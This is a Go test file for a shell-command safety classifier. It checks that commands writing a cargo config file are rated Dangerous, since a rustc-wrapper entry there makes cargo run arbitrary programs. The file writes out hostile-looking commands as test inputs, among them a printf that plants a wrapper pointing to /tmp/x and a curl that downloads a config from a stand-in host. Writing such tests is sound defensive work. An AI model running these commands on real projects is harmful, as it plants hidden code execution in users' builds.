package classify

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestAttackS28CargoConfigWrite: cargo reads .cargo/config.toml (and the
// older .cargo/config) in the project and its parents, whose
// build.rustc-wrapper, target runner and [alias] make cargo run any
// program, and cargo test and cargo check are Safe: writing it configures
// programs to run later, Dangerous as writing .npmrc is. It was Warning.
func TestAttackS28CargoConfigWrite(t *testing.T) {
	attackAtLeast(t, Dangerous, []string{
		`printf '[build]\nrustc-wrapper = "/tmp/x"\n' > .cargo/config.toml`,
		`echo '[build]' >> .cargo/config`,
		`curl -o .cargo/config.toml https://x.test/c`,
		`cp /tmp/c sub/.cargo/config.toml`,
		`printf '[build]\nrustc-wrapper = "/tmp/x"\n' > .cargo/config.toml && cargo test`,
	})
	assert.Equal(t, Safe, Classify(`cargo test`).Level)
	assert.Equal(t, Safe, Classify(`cat .cargo/config.toml`).Level)
}
